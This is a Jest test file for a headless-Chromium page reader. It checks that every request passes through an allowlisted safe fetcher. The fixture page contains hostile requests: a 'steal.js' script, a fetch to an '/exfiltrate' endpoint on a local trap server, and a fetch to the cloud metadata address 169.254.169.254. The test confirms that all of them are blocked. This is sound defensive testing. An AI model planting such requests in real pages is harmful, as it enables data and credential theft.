import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { startFixtureSite, testEnvironment, type FixtureSite } from '@gtm/testing';
import { createSafeFetcher, type SafeFetcher } from '@gtm/runtime';
import { createChromiumPageReader } from './chromium-page-reader.js';
import { createDirectPageReader, type PageReader } from './page-reader.js';
import { createRenderingPageReader, looksClientRendered } from './rendering-page-reader.js';

const northwind = fileURLToPath(new URL('../../fixtures/northwind-site', import.meta.url));

// A page that is an empty shell until its script runs, and whose script also tries to reach a
// server it must never reach (not on the allowlist, on loopback).
const shell = (trapOrigin: string) => `<!doctype html><html><head><title>Acme Rockets</title></head>
<body><div id="root"></div>
<script src="/app.js"></script>
<img src="${trapOrigin}/pixel.png"><script src="${trapOrigin}/steal.js"></script>
<script>fetch('${trapOrigin}/exfiltrate').catch(() => {}); fetch('http://169.254.169.254/latest/meta-data/').catch(() => {});</script>
</body></html>`;
const appScript = `document.getElementById('root').innerHTML = '<h1>Acme Rockets</h1><p>' + 'Acme builds reusable rockets for small satellite operators. '.repeat(12) + '</p>';`;

let site: FixtureSite;
let trap: Server;
const trapHits: string[] = [];
let fetcher: SafeFetcher;
let renderer: PageReader;

beforeAll(async () => {
  trap = createServer((request, response) => {
    trapHits.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'application/javascript' }).end('window.stolen = true;');
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  const trapOrigin = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  site = await startFixtureSite(northwind, {
    '/app': (_request, response) => void response.writeHead(200, { 'content-type': 'text/html' }).end(shell(trapOrigin)),
    '/app.js': (_request, response) => void response.writeHead(200, { 'content-type': 'application/javascript' }).end(appScript),
  });
  fetcher = createSafeFetcher({ allowlist: [site.host] });
  renderer = createChromiumPageReader({ fetcher, timeoutMs: 15_000, executablePath: testEnvironment.chromiumPath });
}, 60_000);

afterAll(async () => {
  await renderer?.close?.();
  await fetcher?.close();
  await site?.close();
  await new Promise<void>((resolve) => trap.close(() => resolve()));
});

describe('JavaScript-rendered pages', () => {
  it('tells an application shell from a page with content', () => {
    expect(looksClientRendered(shell('http://127.0.0.1:1'))).toBe(true);
    expect(looksClientRendered(`<html><body><p>${'Plenty of words in plain HTML. '.repeat(30)}</p><script src="/a.js"></script></body></html>`)).toBe(false);
    expect(looksClientRendered('<html><body><p>Short and static.</p></body></html>')).toBe(false);
  });

  it('renders the page in Chromium, every request going through the safe fetcher', async () => {
    const page = await renderer.read(`${site.origin}/app`);
    expect(page.html).toContain('Acme builds reusable rockets for small satellite operators.');
    // The script, the image and both fetches were refused: nothing reached the trap.
    expect(trapHits).toEqual([]);
    expect(page.html).not.toContain('stolen');
  }, 60_000);

  it('in auto mode renders only the pages that need it', async () => {
    const reader = createRenderingPageReader(createDirectPageReader(fetcher), renderer, 'auto');
    const shellPage = await reader.read(`${site.origin}/app`);
    expect(shellPage.renderedBy).toBe('CHROMIUM');
    const staticPage = await reader.read(`${site.origin}/pricing`);
    expect(staticPage.renderedBy).toBeUndefined();
    expect(staticPage.html).toContain('$49 per user per month');
  }, 60_000);

  it('fails with the fetcher’s own reason when the page itself is refused', async () => {
    await expect(renderer.read('http://10.1.2.3/')).rejects.toMatchObject({ kind: 'refused' });
  }, 60_000);
});
